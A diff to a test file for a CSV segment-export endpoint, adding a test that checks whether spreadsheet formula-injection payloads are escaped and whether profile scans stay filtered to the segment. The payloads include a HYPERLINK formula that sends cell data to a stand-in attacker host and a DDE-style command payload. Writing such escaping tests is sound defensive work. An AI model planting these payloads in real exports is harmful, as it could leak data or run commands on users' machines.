@@ -127,7 +127,52 @@ describe('segment preview and membership export', () => {
     const lines = (await csv.text()).trim().split('\n');
     assert.equal(lines[0], 'user_id,anonymous_ids,email,phone,lifecycle');
     assert.equal(lines.length, 9);
-    assert.ok(lines.includes('"p-4","","p4@example.com",,"active"'), lines.join('\n'));
+    assert.ok(lines.includes('p-4,,p4@example.com,,active'), lines.join('\n'));
     assert.equal((await t.request('GET', '/v1/segments/nope/members')).status, 404);
+  });
+
+  it('escapes formulas in the CSV, and reads only the segment members from the store', async () => {
+    const evil = '=HYPERLINK("http://attacker.example/?leak="&A2,"Click")';
+    const batch = [
+      {
+        type: 'identify',
+        userId: evil,
+        traits: { email: '+cmd|" /C calc"!A0', phone: '@SUM(1+1)' },
+        timestamp: iso(1),
+      },
+      {
+        type: 'track',
+        userId: evil,
+        event: 'order_paid',
+        properties: { orderId: 'evil-1', amount: 1500 },
+        timestamp: iso(1),
+      },
+    ];
+    assert.equal((await t.request('POST', '/v1/batch', { body: { batch } })).status, 200);
+    await t.settle();
+    const store = t.engine.store;
+    const scan = store.scanProfiles.bind(store);
+    const filters: unknown[] = [];
+    store.scanProfiles = (cursor, limit, filter) => {
+      filters.push(filter);
+      return scan(cursor, limit, filter);
+    };
+    try {
+      const csv = await fetch(`${t.url}/v1/segments/high_value_buyers/members?format=csv`, {
+        headers: { authorization: `Basic ${Buffer.from(`${KEYS.read}:`).toString('base64')}` },
+      });
+      const text = await csv.text();
+      assert.ok(
+        text.includes(
+          `"'=HYPERLINK(""http://attacker.example/?leak=""&A2,""Click"")",,"'+cmd|"" /C calc""!A0",'@SUM(1+1),active`,
+        ),
+        text,
+      );
+      for (const line of text.trim().split('\n')) assert.doesNotMatch(line, /(^|,)"?[=+@-]/, line);
+      assert.ok(filters.length > 0);
+      for (const filter of filters) assert.deepEqual(filter, { segment: 'high_value_buyers' });
+    } finally {
+      store.scanProfiles = scan;
+    }
   });
 });
